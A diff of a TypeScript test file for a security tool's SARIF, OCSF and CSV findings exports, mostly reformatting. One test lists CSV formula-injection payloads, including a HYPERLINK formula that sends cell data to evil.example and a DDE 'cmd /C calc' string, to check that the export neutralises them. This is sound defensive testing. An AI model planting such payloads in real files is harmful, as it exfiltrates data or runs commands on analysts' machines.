@@ -57,7 +57,21 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
     const bySeverity = SEVERITIES.map((s) => checks.find((c) => c.severity === s)).filter((c): c is CheckMetadata => !!c);
     expect(bySeverity.length).toBeGreaterThanOrEqual(3);
     const results = (status: ResultInput['status'], skip?: string): ResultInput[] =>
-      bySeverity.flatMap((c, i) => (c.id === skip ? [] : [{ checkId: c.id, severity: c.severity, resourceType: c.resourceType, resourceId: `res-${i}`, resourceName: i % 2 ? `Resource "${i}"` : null, status, reason: `failed ${c.id}` }]));
+      bySeverity.flatMap((c, i) =>
+        c.id === skip
+          ? []
+          : [
+              {
+                checkId: c.id,
+                severity: c.severity,
+                resourceType: c.resourceType,
+                resourceId: `res-${i}`,
+                resourceName: i % 2 ? `Resource "${i}"` : null,
+                status,
+                reason: `failed ${c.id}`,
+              },
+            ],
+      );
     await applyEvaluation(db, 'int_x', null, results('fail'), '2026-03-01T10:00:00.000Z');
     const resolvedCheck = bySeverity[0]!.id;
     await applyEvaluation(db, 'int_x', null, [...results('fail', resolvedCheck), { ...results('pass')[0]! }], '2026-03-02T10:00:00.000Z');
@@ -77,13 +91,21 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
     expect(run.tool.driver.rules.map((r) => r.id)).toEqual(checks.map((c) => c.id));
     const rule = run.tool.driver.rules[0]!;
     const check = checks[0]!;
-    expect(rule).toMatchObject({ shortDescription: { text: check.title }, fullDescription: { text: check.risk }, help: { text: check.remediation }, helpUri: check.references[0] });
+    expect(rule).toMatchObject({
+      shortDescription: { text: check.title },
+      fullDescription: { text: check.risk },
+      help: { text: check.remediation },
+      helpUri: check.references[0],
+    });
     expect(rule.properties.tags).toEqual(expect.arrayContaining(Object.entries(check.frameworks).flatMap(([fw, ids]) => ids.map((id) => `${fw}/${id}`))));
     expect(run.results).toHaveLength(findings.length);
     for (const [i, f] of findings.entries()) {
       const r = run.results[i]!;
       expect(run.tool.driver.rules[r.ruleIndex!]!.id).toBe(f.check_id);
-      expect(r.locations[0]!.logicalLocations[0]).toMatchObject({ fullyQualifiedName: `${f.resource_type}/${f.resource_id}`, name: f.resource_name ?? f.resource_id });
+      expect(r.locations[0]!.logicalLocations[0]).toMatchObject({
+        fullyQualifiedName: `${f.resource_type}/${f.resource_id}`,
+        name: f.resource_name ?? f.resource_id,
+      });
       expect(r.properties).toMatchObject({ findingId: f.id, status: f.status, firstSeenAt: f.first_seen_at, lastSeenAt: f.last_seen_at });
       if (f.status === 'resolved') expect([r.kind, r.level]).toEqual(['pass', 'none']);
       else expect(r.level).toBe({ critical: 'error', high: 'error', medium: 'warning', low: 'note', info: 'note' }[f.severity]);
@@ -118,15 +140,39 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
       const expected = f.suppression ? [3, 'Suppressed'] : f.status === 'resolved' ? [4, 'Resolved'] : [1, 'New'];
       expect([e.status_id, e.status]).toEqual(expected);
       expect(e.activity_name).toBe(f.status === 'resolved' ? 'Close' : f.first_seen_at === f.last_seen_at ? 'Create' : 'Update');
-      expect(e.finding_info).toMatchObject({ uid: f.id, title: byId.get(f.check_id)!.title, first_seen_time: Date.parse(f.first_seen_at), last_seen_time: Date.parse(f.last_seen_at) });
+      expect(e.finding_info).toMatchObject({
+        uid: f.id,
+        title: byId.get(f.check_id)!.title,
+        first_seen_time: Date.parse(f.first_seen_at),
+        last_seen_time: Date.parse(f.last_seen_at),
+      });
       expect(e.resources).toEqual([{ uid: f.resource_id, type: f.resource_type, ...(f.resource_name ? { name: f.resource_name } : {}) }]);
       expect(e.remediation).toEqual({ desc: byId.get(f.check_id)!.remediation, references: byId.get(f.check_id)!.references });
       expect(e.metadata).toMatchObject({ version: OCSF_VERSION, product: { name: 'Vigil' } });
       expect(e.cloud).toEqual({ provider: 'Microsoft', account: { uid: 't-int_x' } });
     }
     const alert = alertToOcsf(
-      { id: 'alr_1', integration_id: 'int_x', rule_id: 'mass_download', severity: 'high', status: 'new', title: 'Mass download', dedupe_key: 'k', detail: null, window_start: '2026-03-01T00:00:00.000Z', window_end: '2026-03-01T00:05:00.000Z', created_at: '2026-03-01T00:06:00.000Z', updated_at: '2026-03-01T00:06:00.000Z' },
-      { id: 'mass_download', title: 'Mass download', description: 'Many files downloaded in a short window.', response: 'Check the user and revoke sessions.', references: ['https://learn.microsoft.com/purview/audit-log-activities'] },
+      {
+        id: 'alr_1',
+        integration_id: 'int_x',
+        rule_id: 'mass_download',
+        severity: 'high',
+        status: 'new',
+        title: 'Mass download',
+        dedupe_key: 'k',
+        detail: null,
+        window_start: '2026-03-01T00:00:00.000Z',
+        window_end: '2026-03-01T00:05:00.000Z',
+        created_at: '2026-03-01T00:06:00.000Z',
+        updated_at: '2026-03-01T00:06:00.000Z',
+      },
+      {
+        id: 'mass_download',
+        title: 'Mass download',
+        description: 'Many files downloaded in a short window.',
+        response: 'Check the user and revoke sessions.',
+        references: ['https://learn.microsoft.com/purview/audit-log-activities'],
+      },
       { product: vigilProduct('0.1.0') },
     );
     expect(validateOcsf(alert), errors(validateOcsf)).toBe(true);
@@ -169,7 +215,10 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
 
     const nd = await vigil(['findings', 'export', '--format', 'ocsf', '--ndjson', '--status', 'open'], env);
     expect(nd.code, nd.stderr).toBe(0);
-    const lines = nd.stdout.trim().split('\n').map((l) => JSON.parse(l) as { status_id: number });
+    const lines = nd.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { status_id: number });
     expect(lines).toHaveLength(findings.filter((f) => f.status === 'open' && !f.suppression).length);
     expect(lines.every((l) => l.status_id === 1)).toBe(true);
 
@@ -179,10 +228,20 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
 
   it('the CSV export opens inert: cells that a spreadsheet would read as formulas are prefixed with a quote', () => {
     // What a tenant's maker can name a resource (an app, a flow, an agent) for the analyst who opens the export.
-    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'];
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
     const base = findings.find((f) => f.suppression)!;
-    const rows = hostile.map((name, i) => ({ ...base, id: `fnd_${i}`, resource_name: name, detail: JSON.stringify({ reason: name }), suppression: { ...base.suppression!, reason: name, author: name } }));
-    const text = renderFindings([...rows, { ...base, id: 'fnd_plain', resource_name: 'Sales app', detail: JSON.stringify({ reason: 'a - b' }) }], 'csv', { checks, tenants: new Map(), version: '0.1.0' });
+    const rows = hostile.map((name, i) => ({
+      ...base,
+      id: `fnd_${i}`,
+      resource_name: name,
+      detail: JSON.stringify({ reason: name }),
+      suppression: { ...base.suppression!, reason: name, author: name },
+    }));
+    const text = renderFindings([...rows, { ...base, id: 'fnd_plain', resource_name: 'Sales app', detail: JSON.stringify({ reason: 'a - b' }) }], 'csv', {
+      checks,
+      tenants: new Map(),
+      version: '0.1.0',
+    });
     const [header, ...records] = parseCsv(text);
     const col = (name: string) => header!.indexOf(name);
     for (const [i, name] of hostile.entries()) {
